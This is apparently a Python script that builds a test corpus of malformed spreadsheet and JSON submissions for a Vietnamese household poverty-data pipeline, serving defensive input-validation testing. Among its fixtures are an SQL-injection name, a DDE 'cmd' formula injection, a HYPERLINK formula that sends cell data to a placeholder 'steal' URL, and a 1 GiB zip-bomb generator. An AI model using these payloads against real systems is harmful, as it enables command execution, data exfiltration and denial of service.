"""Build the bad-input corpus: every file under tests/corpus/files/, deterministically.

    .venv/bin/python tests/corpus/build_corpus.py

Each file is a small submission (the contract-conforming base of tests/support/builders.py, or an agency
report) broken in one way. What each must get — status and exact problem rows — is written by
hand in tests/corpus/expected.yml, with the landing path it is landed under (names with spaces,
Vietnamese letters, ``..``, ``\\``, ``#`` and ``%`` are given there, not on disk in the
repository). The file over 100 MB is not here: the test makes it in a temporary folder.
"""

from __future__ import annotations

import copy
import datetime as dt
import io
import json
import random
import re
import struct
import sys
import unicodedata
import zipfile
from pathlib import Path

import xlsxwriter

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))  # tests/support/builders.py

from support.builders import agency_report, household, submission  # noqa: E402

from poverty_pipeline.ingest.vietnamese_encodings import encode, encode_cp1258  # noqa: E402
from poverty_pipeline.reference.contract import load_contract  # noqa: E402

FILES = HERE / "files"
CREATED = dt.datetime(2024, 4, 5, 8, 0, 0)  # fixed workbook dates: the same bytes on every build
COMMUNE = load_contract("commune_household_review")
AGENCY = load_contract("agency_task_report")


# ----------------------------------------------------------------------------- writers

def sheet_rows(doc: dict, name: str, contract=COMMUNE, labels: bool = False) -> list[list[object]]:
    """A sheet of ``doc`` as rows (header first), in the contract's column order."""
    spec = contract.sheets[name]
    label = {f.code: f.label for f in spec.fields}
    if spec.layout == "key_value":
        style = "label" if labels else "code"
        head = [spec.key_header[style], spec.value_header[style]]
        return [head, *([label.get(k, k) if labels else k, v] for k, v in doc[name].items())]
    codes = [f.code for f in spec.fields if any(f.code in r for r in doc[name])]
    codes += [k for r in doc[name] for k in r if k not in codes]
    codes = list(dict.fromkeys(codes))
    header = [label.get(c, c) if labels else c for c in codes]
    return [header, *([r.get(c) for c in codes] for r in doc[name])]


def xlsx(sheets: dict[str, list[list[object]]], *, hidden: tuple[str, ...] = (), merges: dict | None = None,
         formulas: dict | None = None, strings: bool = False) -> bytes:
    """A workbook of ``sheets`` (name → rows). ``merges``: name → [(r0, c0, r1, c1, value)];
    ``formulas``: name → {(row, col): (formula, cached value)}; ``strings``: every cell as text."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False,
                                        "strings_to_numbers": False, "strings_to_urls": False})
    book.set_properties({"created": CREATED, "author": "tests/corpus"})
    for name, rows in sheets.items():
        ws = book.add_worksheet(name)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if value is None:
                    continue
                if strings or isinstance(value, str):
                    ws.write_string(r, c, str(value))
                else:
                    ws.write(r, c, value)
        for r0, c0, r1, c1, value in (merges or {}).get(name, ()):
            ws.merge_range(r0, c0, r1, c1, value)
        for (r, c), (formula, cached) in (formulas or {}).get(name, {}).items():
            ws.write_formula(r, c, formula, None, cached)
        if name in hidden:
            ws.hide()
    book.close()
    return buffer.getvalue()


def commune_xlsx(doc: dict, labels: bool = False, **options) -> bytes:
    return xlsx({name: sheet_rows(doc, name, labels=labels) for name in COMMUNE.sheets}, **options)


def agency_xlsx(doc: dict, labels: bool = False, **options) -> bytes:
    return xlsx({name: sheet_rows(doc, name, AGENCY, labels) for name in AGENCY.sheets}, **options)


def as_json(doc: object) -> bytes:
    return json.dumps(doc, ensure_ascii=False, indent=1).encode("utf-8")


def map_text(value: object, fn) -> object:
    """``value`` with ``fn`` applied to every string in it (keys too)."""
    if isinstance(value, str):
        return fn(value)
    if isinstance(value, dict):
        return {fn(k): map_text(v, fn) for k, v in value.items()}
    if isinstance(value, list):
        return [map_text(v, fn) for v in value]
    return value


def tcvn3(text: str) -> str:
    return encode(text, "TCVN3")


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (512-byte sectors) holding ``streams`` (each ≥ 4096 bytes, so
    in regular sectors): the container of Excel 97-2003 files and of password-protected
    workbooks (streams ``EncryptionInfo`` and ``EncryptedPackage``)."""
    sector = 512
    free, end, fat_sector = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    fat = [fat_sector, end]  # sector 0: the FAT, sector 1: the directory
    starts, data = [], b""
    for content in streams.values():
        content += b"\0" * (-len(content) % sector)
        first = len(fat)
        count = len(content) // sector
        fat += [first + i + 1 for i in range(count - 1)] + [end]
        starts.append(first)
        data += content
    fat += [free] * (sector // 4 - len(fat))

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1, free, right, child)
                + b"\0" * 16 + struct.pack("<IQQIQ", 0, 0, 0, start, size))

    names = list(streams)
    entries = [entry("Root Entry", 5, free, 1, end, 0)]
    for i, name in enumerate(names, start=1):
        right = i + 1 if i < len(names) else free
        entries.append(entry(name, 2, right, free, starts[i - 1], len(streams[name])))
    directory = b"".join(entries).ljust(sector, b"\0")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
              + struct.pack("<I", 0) + struct.pack("<I", free) * 108)
    return header + struct.pack(f"<{len(fat)}I", *fat) + directory + data


# ----------------------------------------------------------------------------- bases

def commune(ma_xa: str, **info) -> dict:
    return submission(ma_xa=ma_xa, **info)


def vietnamese(ma_xa: str) -> dict:
    """A base whose text is full of Vietnamese letters (for the encoding cases); no upper-case
    toned letter, which TCVN3's base fonts cannot hold."""
    return submission(ma_xa=ma_xa, nguoi_lap="Trần Thị Bình", households=[
        household("HO001", ap="Ấp Mỹ Lợi", ho_ten_chu_ho="Nguyễn Văn Tâm", ghi_chu="Thiếu hụt bảo hiểm y tế",
                  dan_toc="Kinh", thu_nhap_binh_quan=1_200_000, td_bhyt=1, td_nha_tieu=1, td_viec_lam=1,
                  phan_loai_cua_xa="Nghèo"),
        household("HO002", ap="Ấp Mỹ Lợi", ho_ten_chu_ho="Đặng Hữu Phước", ghi_chu="Hộ có người ốm đau",
                  thu_nhap_binh_quan=1_400_000, phan_loai_cua_xa="Cận nghèo"),
        household("HO003", ap="Khu phố Hòa Bình", ho_ten_chu_ho="Lê Thị Cúc", ghi_chu="Đã thoát nghèo",
                  gioi_tinh_chu_ho="Nữ", khu_vuc="Nông thôn", phan_loai_cua_xa="Không"),
    ])


def set_household(doc: dict, index: int, **values) -> dict:
    out = copy.deepcopy(doc)
    out["danh_sach_ho"][index].update(values)
    return out


def set_area(doc: dict, **values) -> dict:
    out = copy.deepcopy(doc)
    out["tong_hop"][0].update(values)
    return out


def set_activity(doc: dict, index: int, **values) -> dict:
    out = copy.deepcopy(doc)
    out["hoat_dong"][index].update(values)
    return out


def good_xlsx_bytes() -> bytes:
    return commune_xlsx(commune("28249"))


# ----------------------------------------------------------------------------- the cases

def cases() -> dict[str, bytes]:
    files: dict[str, bytes] = {}

    # -- the file as a whole
    files["empty.xlsx"] = b""
    files["empty.json"] = b" \r\n"
    files["zero_rows.json"] = as_json({**commune("28437"), "danh_sach_ho": []})
    header_only = commune("28438")
    files["header_only.xlsx"] = xlsx({
        "thong_tin": sheet_rows(header_only, "thong_tin"),
        "tong_hop": sheet_rows(header_only, "tong_hop"),
        "danh_sach_ho": sheet_rows(header_only, "danh_sach_ho")[:1],
    })
    files["blank_sheets.xlsx"] = xlsx({"thong_tin": [], "tong_hop": [], "danh_sach_ho": []})
    files["corrupt_zip.xlsx"] = good_xlsx_bytes()[: len(good_xlsx_bytes()) // 2]
    damaged = bytearray(good_xlsx_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(damaged))) as archive:
        info = archive.getinfo("xl/worksheets/sheet3.xml")
    body = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(body + 20, body + 60):
        damaged[i] ^= 0x5A  # the household sheet's compressed bytes scrambled
    files["corrupt_member.xlsx"] = bytes(damaged)
    files["zip_bomb.xlsx"] = zip_bomb()
    rng = random.Random(6)
    encryption_info = (struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption '
        b'xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" '
        b'blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" '
        b'hashAlgorithm="SHA512"/></encryption>')).ljust(4096, b" ")
    package = struct.pack("<Q", 6000) + bytes(rng.randrange(256) for _ in range(6136))
    files["password.xlsx"] = ole_file({"EncryptionInfo": encryption_info, "EncryptedPackage": package})
    files["xls_renamed.xlsx"] = ole_file({"Workbook": bytes(rng.randrange(256) for _ in range(4608))})
    files["report.csv"] = b"ma_ho,ap\nHO001,Ap 1\n"
    files["not_json.json"] = b"<html><body>Trang web, kh\xc3\xb4ng ph\xe1\xba\xa3i JSON</body></html>"
    files["truncated.json"] = as_json(commune("28439"))[:300]
    files["array_document.json"] = as_json([commune("28440")])
    files["json_named_xlsx.xlsx"] = as_json(commune("28441"))

    # -- encodings
    files["windows1258.json"] = encode_cp1258(json.dumps(vietnamese("28261"), ensure_ascii=False))
    files["tcvn3.xlsx"] = commune_xlsx(map_text(vietnamese("28264"), tcvn3))
    files["tcvn3_labels.xlsx"] = xlsx({
        name: map_text(sheet_rows(vietnamese("28444"), name, labels=True), tcvn3)
        for name in COMMUNE.sheets})
    files["tcvn3.json"] = tcvn3(json.dumps(vietnamese("28270"), ensure_ascii=False)).encode("latin-1")
    files["vni.xlsx"] = commune_xlsx(map_text(vietnamese("28273"), lambda s: encode(s, "VNI")))
    files["vni.json"] = encode(json.dumps(vietnamese("28276"), ensure_ascii=False), "VNI").encode("latin-1")
    files["utf8_bom.json"] = b"\xef\xbb\xbf" + as_json(vietnamese("28279"))
    files["utf16.json"] = json.dumps(vietnamese("28285"), ensure_ascii=False).encode("utf-16")
    files["nfd.json"] = as_json(map_text(vietnamese("28282"), lambda s: unicodedata.normalize("NFD", s)))
    files["nfd_labels.xlsx"] = xlsx({
        name: map_text(sheet_rows(vietnamese("28447"), name, labels=True),
                       lambda s: unicodedata.normalize("NFD", s))
        for name in COMMUNE.sheets})

    # -- workbook features
    doc = commune("28288")
    rows = sheet_rows(doc, "tong_hop")
    rate = rows[0].index("ty_le_ho_ngheo")
    near = rows[0].index("ty_le_ho_can_ngheo")
    households = sheet_rows(doc, "danh_sach_ho")
    note = len(households[0])
    households[0].append("ghi_chu")
    files["formulas.xlsx"] = xlsx(
        {"thong_tin": sheet_rows(doc, "thong_tin"), "tong_hop": rows, "danh_sach_ho": households},
        formulas={
            "tong_hop": {(1, rate): ("=ROUND(D2/B2*100,2)", 1.0), (1, near): ("=ROUND(F2/B2*100,2)", 1.0)},
            "danh_sach_ho": {
                (1, note): ('=HYPERLINK("http://example.invalid/ho/1","Xem hồ sơ")', "Xem hồ sơ"),
                (2, note): ('=CONCATENATE("Hộ ","cận nghèo")', "Hộ cận nghèo"),
            },
        })
    files["merged_header.xlsx"] = merged_header_workbook()
    doc = commune("28297")
    files["hidden_sheets.xlsx"] = xlsx({
        "thong_tin": sheet_rows(doc, "thong_tin"), "tong_hop": sheet_rows(doc, "tong_hop"),
        "danh_sach_ho": sheet_rows(doc, "danh_sach_ho"),
        "DanhMuc": [["khu_vuc"], ["thanh_thi"], ["nong_thon"]],
    }, hidden=("tong_hop", "DanhMuc"))
    doc = commune("28363")
    extra = copy.deepcopy(doc)
    for i, row in enumerate(extra["danh_sach_ho"]):
        row["so_dien_thoai_ho"] = f"09123456{i:02d}"
    extra["thong_tin"]["ghi_chu_xa"] = "Gửi kèm biên bản họp"
    files["unknown_columns.xlsx"] = commune_xlsx(extra)
    doc = commune("28366")
    files["duplicate_columns.xlsx"] = xlsx({
        "thong_tin": sheet_rows(doc, "thong_tin"), "tong_hop": sheet_rows(doc, "tong_hop"),
        "danh_sach_ho": [r + [r[0]] for r in sheet_rows(doc, "danh_sach_ho")],
    })
    files["missing_sheet.xlsx"] = xlsx({n: sheet_rows(commune("28369"), n)
                                        for n in ("thong_tin", "danh_sach_ho")})
    files["sheet_names_labels.xlsx"] = xlsx({
        {"thong_tin": "Thông tin", "tong_hop": "Tổng hợp", "danh_sach_ho": "Danh sách hộ"}[n]:
        sheet_rows(commune("28372"), n, labels=True) for n in COMMUNE.sheets})

    # -- JSON structure
    doc = commune("28300")
    doc = set_household(doc, 0, so_nhan_khau="bốn")
    doc = set_household(doc, 1, thu_nhap_binh_quan=True, td_bhyt="có")
    doc = set_household(doc, 2, ho_ten_chu_ho=False)
    doc["thong_tin"]["ngay_lap"] = 20211205
    files["json_wrong_types.json"] = as_json(doc)
    doc = commune("28306")
    doc = set_household(doc, 1, ma_ho=None, thu_nhap_binh_quan=None, td_bhyt=None)
    doc["thong_tin"]["nguoi_lap"] = None
    files["json_nulls.json"] = as_json(doc)
    files["json_null_part.json"] = as_json({**commune("28309"), "tong_hop": None})
    doc = commune("28312")
    doc["danh_sach_ho"] = [doc["danh_sach_ho"][0], None, 7, doc["danh_sach_ho"][1]]
    files["json_items_not_objects.json"] = as_json(doc)
    doc = commune("28315")
    doc = set_household(doc, 0, ho_ten_chu_ho={"ho": "Nguyễn", "ten": "An"})
    doc = set_household(doc, 1, nguyen_nhan_ngheo=["thieu_von", "om_dau"], so_nhan_khau=[4])
    files["json_nesting.json"] = as_json(doc)
    files["json_nested_document.json"] = as_json({"data": commune("28318")})
    files["json_list_as_object.json"] = as_json({**commune("28450"),
                                                 "danh_sach_ho": commune("28450")["danh_sach_ho"][0]})
    text = as_json(commune("28321")).decode()
    text = text.replace('"ma_xa": "28321",', '"ma_xa": "28321",\n  "ma_xa": "28324",', 1)
    text = text.replace('"ma_ho": "HO002",', '"ma_ho": "HO002",\n   "ma_ho": "HO002B",', 1)
    text = text.replace('"tong_hop": [', '"tong_hop": [],\n "tong_hop": [', 1)
    files["json_duplicate_keys.json"] = text.encode()

    # -- values
    files["duplicate_households.xlsx"] = commune_xlsx(commune("28327", households=[
        household("HO001"), household("HO002"), household("HO001", ho_ten_chu_ho="Lê Văn Cường")]))
    files["date_future.json"] = as_json(commune("28330", ngay_lap="2099-01-01"))
    files["date_ddmmyyyy.xlsx"] = commune_xlsx(commune("28333", ngay_lap="05/12/2021"))
    files["date_invalid.json"] = as_json(commune("28453", ngay_lap="31/02/2021"))
    files["year_mismatch.json"] = as_json(commune("28336"))
    files["unknown_commune.json"] = as_json(commune("99999"))
    doc = set_household(commune("28339"), 0, thu_nhap_binh_quan="1.500.000")
    doc = set_household(doc, 1, thu_nhap_binh_quan="1.400.000,50")
    doc = set_area(doc, tong_so_ho="1.250", tong_so_nhan_khau="4.375", ty_le_ho_ngheo="0,08",
                   ty_le_ho_can_ngheo="0,08")
    files["thousands_separators.xlsx"] = commune_xlsx(doc, strings=True)
    doc = set_household(commune("28342"), 0, thu_nhap_binh_quan=-500_000)
    doc = set_household(doc, 2, so_nhan_khau=-3, diem_a=-10)
    doc = set_area(doc, tong_so_ho=-1, ty_le_ho_ngheo=-2.5)
    files["negative.json"] = as_json(doc)
    text = as_json(commune("28345")).decode()
    text = text.replace('"thu_nhap_binh_quan": 1200000', '"thu_nhap_binh_quan": NaN', 1)
    text = text.replace('"thu_nhap_binh_quan": 1400000', '"thu_nhap_binh_quan": Infinity', 1)
    text = text.replace('"so_nhan_khau": 4', '"so_nhan_khau": -Infinity', 1)
    text = text.replace('"ty_le_ho_ngheo": 1.0', '"ty_le_ho_ngheo": "NaN"', 1)
    files["nan_infinity.json"] = text.encode()
    files["huge_number.json"] = as_json(set_area(commune("28348"), tong_so_ho=10**20,
                                                 tong_so_nhan_khau=10**21))
    long_name = ("Nguyễn Văn " * 1000)[:10_000]
    files["long_strings.json"] = as_json(set_household(commune("28354"), 1, ho_ten_chu_ho=long_name))
    files["long_note.xlsx"] = commune_xlsx(set_household(commune("28456"), 2, ghi_chu="x" * 10_000))
    doc = set_household(commune("28357"), 0, ho_ten_chu_ho="Robert'); DROP TABLE raw.commune_households;--")
    doc = set_household(doc, 1, ghi_chu='=HYPERLINK("http://example.invalid/steal?d="&A2,"Bấm vào đây")')
    doc = set_household(doc, 2, dan_toc="@SUM(1+1)", ghi_chu="+84 912 345 678")
    doc["thong_tin"]["nguoi_lap"] = "=cmd|' /C calc'!A0"
    files["sql_and_formula_text.json"] = as_json(doc)
    doc["thong_tin"]["ma_xa"] = "28411"
    files["formula_text.xlsx"] = commune_xlsx(doc)  # the same values as text cells
    doc = set_area(commune("28360"), so_ho_ngheo=150, so_ho_can_ngheo=120)
    files["poor_above_households.json"] = as_json(doc)
    doc = commune("28459")
    del doc["thong_tin"]["ngay_lap"]
    files["missing_field.json"] = as_json(doc)

    # -- file names (their landing names are in expected.yml)
    for name, code in (("name_spaces_vietnamese.json", "28375"), ("name_dots.json", "28378"),
                       ("name_backslash.json", "28381"), ("name_subfolder.json", "28384"),
                       ("name_hash_percent.json", "28387"), ("name_nfd.json", "28390")):
        files[name] = as_json(commune(code))

    # -- agency reports (landed under agencies/2024-Q1/ unless expected.yml says otherwise)
    doc = agency_report(ngay_lap="05/04/2024")
    doc = set_activity(doc, 1, ngay_hoan_thanh="20/03/2024", han_hoan_thanh="31/03/2024")
    files["agency_ddmmyyyy.xlsx"] = agency_xlsx(doc, labels=True)
    files["agency_date_future.json"] = as_json(agency_report(ma_don_vi="SNNPTNT", ngay_lap="2099-01-01"))
    doc = set_activity(agency_report(ma_don_vi="SLDTBXH"), 0, ke_hoach="500.000.000", thuc_hien="1.500.000,5")
    files["agency_thousands.json"] = as_json(doc)
    text = as_json(set_activity(agency_report(ma_don_vi="SYT"), 0, ke_hoach=-5)).decode()
    text = text.replace('"thuc_hien": 200000000', '"thuc_hien": NaN', 1)
    files["agency_negative_nan.json"] = text.encode()
    files["agency_tcvn3.xlsx"] = agency_xlsx(map_text(agency_report(ma_don_vi="SGDDT"), tcvn3), labels=True)
    files["agency_vni.json"] = encode(json.dumps(agency_report(ma_don_vi="SXD"), ensure_ascii=False),
                                      "VNI").encode("latin-1")
    files["agency_wrong_period.json"] = as_json(agency_report(ma_don_vi="NHCSXH"))
    doc = agency_report(ma_don_vi="SKHDT")
    doc["hoat_dong"][2]["noi_dung"] = '=HYPERLINK("http://example.invalid","Bấm")'
    doc["hoat_dong"][0]["ghi_chu_them"] = "cột thêm"
    files["agency_formula_text_extra_column.xlsx"] = agency_xlsx(doc)
    files["agency_duplicate_keys.json"] = as_json(agency_report(ma_don_vi="STTTT")).replace(
        b'"ma_hoat_dong": "HD-02",', b'"ma_hoat_dong": "HD-02",\n   "ma_hoat_dong": "HD-09",', 1)
    files.update(fault_cases())
    return files


def fault_cases() -> dict[str, bytes]:
    """Files that once stopped a whole batch or the province build, or loaded wrong quietly."""
    files: dict[str, bytes] = {}
    # -- dates and integers no calendar or column holds
    files["review_year_negative.json"] = as_json(commune("28393", nam_ra_soat=-1))
    files["review_year_huge.json"] = as_json(commune("28396", nam_ra_soat=3_000_000_000,
                                                     loai_ra_soat="thuong_xuyen", thang=3_000_000_000))
    files["december_9999.json"] = as_json(commune("28399", year=9999, loai_ra_soat="thuong_xuyen", thang=12,
                                                  ngay_lap="2021-12-05"))
    files["folder_0000.json"] = as_json(commune("28402"))
    files["review_year_future.json"] = as_json(commune("28414", year=2099, ngay_lap="2021-12-05"))
    files["households_max_bigint.json"] = as_json(set_area(commune("28417"), tong_so_ho=2**63 - 1,
                                                           tong_so_nhan_khau=2**63 - 1))
    # -- text PostgreSQL cannot hold, or that is no text
    doc = commune("28420")
    doc["thong_tin"]["nguoi_lap"] = "Trần Thị\u0000Bình"
    files["nul_character.json"] = as_json(doc)
    files["control_characters.xlsx"] = commune_xlsx(set_household(
        commune("28423"), 1, ho_ten_chu_ho="Lê Văn\x01Cường", ghi_chu="Hộ\x1bđã thoát nghèo"))
    # -- sheets reaching far: calamine would allocate the grid from A1 to the last cell
    good = commune_xlsx(commune("28426"))
    files["far_column_cell.xlsx"] = with_cells(good, '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    good = commune_xlsx(commune("28429"))
    files["far_row_cell.xlsx"] = with_cells(good, '<row r="1048576"><c r="A1048576"><v>1</v></c></row>')
    good = commune_xlsx(commune("28432"))
    files["declared_extent.xlsx"] = rewrite_member(good, "xl/worksheets/sheet3.xml", lambda xml: re.sub(
        rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', xml))
    good = commune_xlsx(commune("28436"))  # within the bounds, but a grid of 140 million cells
    files["dense_grid.xlsx"] = with_cells(good, '<row r="199999"><c r="ZZ199999"><v>1</v></c></row>')
    files["json_list_too_long.json"] = json.dumps({**commune("28462"), "danh_sach_ho": [{}] * 200_001},
                                                  ensure_ascii=False, separators=(",", ":")).encode()
    # -- bytes that are no encoding
    files["invalid_utf8.json"] = as_json(vietnamese("28465")).replace("Nguyễn".encode(), b"Nguy\xffn", 1)
    plain = map_text(commune("28468"),
                     lambda t: unicodedata.normalize("NFD", t).encode("ascii", "ignore").decode())
    files["stray_byte.json"] = as_json(plain).replace(b"Binh", b"Bi\x81nh", 1)
    # -- digits that are not ASCII digits
    doc = set_household(commune("28471"), 0, so_nhan_khau="٤", so_dinh_danh_chu_ho="٠٨٢١٢٣٤٥٦٧٨٩")
    doc = set_household(doc, 1, thu_nhap_binh_quan="１５０００００")
    doc["thong_tin"]["ngay_lap"] = "٠٥/١٢/٢٠٢١"
    files["non_ascii_digits.json"] = as_json(doc)
    files["fullwidth_folder.json"] = as_json(commune("28474"))
    # -- names of sheets and columns far too long to echo
    doc = set_household(commune("28477"), 0, **{"cột ghi thêm " * 800: "x"})
    doc["Sheet " + "rất dài " * 1250] = [{"a": 1}]
    files["long_names.json"] = as_json(doc)
    # -- keys the warehouse relies on: a household code NNNNN- only for a merged commune's
    # 28483-HO001 is the key of household HO001 of commune 28483 (own_commune_folder.json);
    # 28480-HO002 is the key of this file's own HO002: either would be a duplicate in the marts
    files["household_prefix_neighbour.json"] = as_json(commune("28480", households=[
        household("28483-HO001"), household("HO002"), household("28480-HO002")]))
    files["household_prefix_merged.json"] = as_json(commune("28519", year=2024, households=[
        household("28531-HO00012"), household("HO00001"), household("HO00002")]))
    # -- a file speaks only for its own submitter
    files["other_commune_folder.json"] = as_json(commune("28252"))
    files["own_commune_folder.json"] = as_json(commune("28483"))
    files["agency_other_folder.json"] = as_json(agency_report(ma_don_vi="SXD"))
    # -- a value the suites let through but PostgreSQL refuses (jsonb has no Infinity)
    files["infinity_extra_column.json"] = as_json(commune("28486")).replace(
        b'"ma_ho": "HO001",', b'"ma_ho": "HO001",\n   "so_tien_vay": 1e400,', 1)
    files["long_file_name.json"] = as_json(commune("28489"))
    return files


def rewrite_member(workbook: bytes, member: str, change) -> bytes:
    """``workbook`` with one zip member's bytes changed (the rest copied as they are)."""
    source = zipfile.ZipFile(io.BytesIO(workbook))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info)
            target.writestr(info, change(body) if info.filename == member else body)
    return out.getvalue()


def with_cells(workbook: bytes, rows_xml: str) -> bytes:
    """``workbook`` with rows appended to its household sheet (sheet3)."""
    return rewrite_member(workbook, "xl/worksheets/sheet3.xml",
                          lambda xml: xml.replace(b"</sheetData>", rows_xml.encode() + b"</sheetData>"))


def merged_header_workbook() -> bytes:
    """A form as clerks lay it out: a merged title row, a two-row header (single columns merged
    down over both rows, the deprivation flags grouped under one merged label), and the hamlet
    merged over its households."""
    doc = commune("28291", households=[
        household("HO001", ap="Ấp Tân Xuân", thu_nhap_binh_quan=1_200_000, td_bhyt=1, td_nha_tieu=1,
                  td_viec_lam=1, phan_loai_cua_xa="ngheo"),
        household("HO002", ap="Ấp Tân Xuân", thu_nhap_binh_quan=1_400_000, phan_loai_cua_xa="can_ngheo"),
        household("HO003", ap="Ấp Tân Xuân"),
    ])
    spec = COMMUNE.sheets["danh_sach_ho"]
    codes = [f.code for f in spec.fields if f.code in doc["danh_sach_ho"][0]]
    label = {f.code: f.label for f in spec.fields}
    flags = [c for c in codes if c.startswith("td")]
    first_flag = codes.index(flags[0])
    merges = [(0, 0, 0, len(codes) - 1, "DANH SÁCH HỘ NGHÈO, HỘ CẬN NGHÈO NĂM 2021"),
              (1, first_flag, 1, first_flag + len(flags) - 1, "Các chỉ số thiếu hụt (1 = thiếu hụt)")]
    row2: list[object] = [None] * len(codes)
    row3: list[object] = [None] * len(codes)
    for i, code in enumerate(codes):
        if code in flags:
            row3[i] = label[code]
        else:
            merges.append((1, i, 2, i, label[code]))
    body = [[r.get(c) for c in codes] for r in doc["danh_sach_ho"]]
    ap = codes.index("ap")
    for r in body[1:]:
        r[ap] = None
    merges.append((3, ap, 5, ap, "Ấp Tân Xuân"))
    rows = [[None] * len(codes), row2, row3, *body]
    return xlsx({"thong_tin": sheet_rows(doc, "thong_tin"), "tong_hop": sheet_rows(doc, "tong_hop"),
                 "danh_sach_ho": rows}, merges={"danh_sach_ho": merges})


def zip_bomb() -> bytes:
    """A well-formed workbook with one more member that inflates to 1 GiB of zeros (about 1 MB
    packed); the sizes in its headers are honest."""
    base = zipfile.ZipFile(io.BytesIO(commune_xlsx(commune("28435"))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in base.infolist():
            bomb.writestr(info, base.read(info))
        info = zipfile.ZipInfo("xl/media/image1.bin", date_time=(2024, 4, 5, 8, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with bomb.open(info, "w", force_zip64=True) as member:
            zeros = bytes(1 << 24)
            for _ in range(64):
                member.write(zeros)
    return out.getvalue()


def main() -> None:
    FILES.mkdir(parents=True, exist_ok=True)
    built = cases()
    for old in FILES.iterdir():
        if old.name not in built:
            old.unlink()
    for name, data in sorted(built.items()):
        (FILES / name).write_bytes(data)
    print(f"{len(built)} files in {FILES}")


if __name__ == "__main__":
    main()
